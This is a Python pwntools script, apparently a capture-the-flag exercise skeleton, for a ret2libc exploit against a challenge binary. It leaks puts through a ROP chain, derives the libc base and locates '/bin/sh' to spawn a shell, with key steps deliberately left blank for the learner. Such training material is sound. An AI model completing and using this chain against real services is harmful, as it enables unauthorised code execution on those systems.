#!/usr/bin/env python3
"""ret2libc frame with holes. Fill in the ____ yourself; that is the exercise."""
import sys

from pwn import ELF, ROP, context, flat, log, process, remote, u64

BINARY = "./chall"
LIBC = "./libc.so.6"          # the one handed out by the organisers

elf = context.binary = ELF(BINARY, checksec=True)
libc = ELF(LIBC, checksec=False)


def start():
    if len(sys.argv) == 3:
        return remote(sys.argv[1], int(sys.argv[2]))
    return process(BINARY)


OFFSET = None                 # ____ from cyclic_find


def stage_leak(io):
    rop = ROP(elf)
    pop_rdi = rop.find_gadget(["pop rdi", "ret"])[0]
    chain = flat(
        b"A" * OFFSET,
        pop_rdi, elf.got["puts"],
        # ____ which plt entry prints it?
        # ____ where do we go back to?
    )
    io.sendlineafter(b"> ", chain)
    leak = u64(io.recvline().strip().ljust(8, b"\0"))
    log.info("puts @ %#x", leak)
    return leak


def stage_shell(io, leak):
    libc.address = leak - libc.symbols["puts"]
    assert libc.address & 0xFFF == 0, "leak looks wrong"
    rop = ROP(libc)
    ret = rop.find_gadget(["ret"])[0]
    sh = next(libc.search(b"/bin/sh\0"))
    chain = flat(
        b"A" * OFFSET,
        ret,                  # alignment
        rop.find_gadget(["pop rdi", "ret"])[0], sh,
        # ____
    )
    io.sendlineafter(b"> ", chain)


def main():
    if OFFSET is None:
        sys.exit("find OFFSET first: cyclic 200 | ./chall, then cyclic -l <rsp>")
    io = start()
    stage_shell(io, stage_leak(io))
    io.interactive()


if __name__ == "__main__":
    main()
